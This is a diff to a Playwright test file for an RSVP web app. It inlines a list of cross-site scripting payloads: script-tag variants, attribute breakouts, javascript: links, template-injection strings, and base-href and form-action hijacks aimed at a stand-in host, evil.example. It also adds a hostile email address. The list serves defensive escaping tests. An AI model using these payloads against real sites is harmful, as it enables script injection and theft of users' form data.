@@ -1,9 +1,35 @@
 import type { Page } from '@playwright/test'
-import { attackingAddress, attackingTexts } from './attacking-texts.ts'
 import { test as base, expect, open, tab, waitForHydration } from './fixtures.ts'
 import { fillForm, roles } from './form.ts'
 import { callAs, guarded, signIn } from './guarded.ts'
 import { changeDatabase, storeRsvps } from './stored.ts'
+
+/** Texts that run as a script where they are not escaped: as an element, in an attribute, in a script. */
+const attackingTexts = [
+  '<script>alert(1)</script>',
+  '<ScRiPt>alert(2)</sCrIpT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '<!--><script>alert(1)</script>-->',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>">',
+  '<a href="javascript:alert(1)" autofocus>Ana</a>',
+  '<base href="//evil.example/"><link rel=stylesheet href=x>',
+  '<form action="//evil.example"><button>RSVP',
+  '" autofocus onfocus="alert(1)" x="',
+  "' autofocus onfocus='alert(1)' x='",
+  '"><script>alert(1)</script>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;&#x22;&quot;',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: attackers type it.
+  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
+  '\\u003cscript\\u003ealert(1)//\u2028\\";alert(1)//',
+]
+
+/** An address whose local part is valid and attacks. */
+const attackingAddress = (position: number) => `'-alert.${position}-'onfocus'x@evil.example`
 
 /** Records every dialog that an attack opens and every request to another site. CSP reports fail every test anyway. */
 const test = base.extend<{ attacks: string[] }>({
